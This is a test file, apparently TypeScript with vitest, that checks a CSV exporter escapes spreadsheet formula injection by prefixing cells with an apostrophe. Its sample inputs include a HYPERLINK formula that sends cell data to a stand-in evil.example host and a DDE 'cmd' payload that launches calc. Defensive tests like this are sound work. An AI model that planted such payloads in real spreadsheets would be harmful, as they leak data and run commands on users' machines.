import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { type Cell, toCsv } from 'sync-protocol/commerce'
import { expect, it } from 'vitest'

const HEADER = ['first', 'second']

/** As spreadsheets read it: the cells of the one row below the header. */
function readBack(cells: readonly [Cell, Cell]): string[] {
  const rows: string[][] = parse(toCsv(HEADER, [cells]), { bom: true, record_delimiter: '\r\n' })
  expect(rows).toHaveLength(2)
  expect(rows[0]).toEqual(HEADER)
  return rows[1] ?? []
}

const hostile = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ',', '\r\n', "'", ''),
    fc.string({ unit: 'grapheme' }),
  )
  .map(parts => parts.join(''))

it('a CSV parser reads every text back as it was, and none as a formula', () => {
  fc.assert(
    fc.property(hostile, hostile, (first, second) => {
      const read = readBack([first, second])
      for (const cell of read) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      const stripped = read.map((cell, index) =>
        /^[=+\-@\t\r]/.test([first, second][index] ?? '') ? cell.slice(1) : cell,
      )
      expect(stripped).toEqual([first, second])
    }),
  )
})

it.each([
  [
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    `'=HYPERLINK("https://evil.example?"&A1,"Click")`,
  ],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
])('%j is a text that begins with an apostrophe', (text, shown) => {
  expect(readBack([text, null])).toEqual([shown, ''])
})

it.each([-1, 0, 12.34, -0.5])('the number %s stays a number, whatever it begins with', number => {
  expect(readBack([number, 'x'])).toEqual([String(number), 'x'])
})
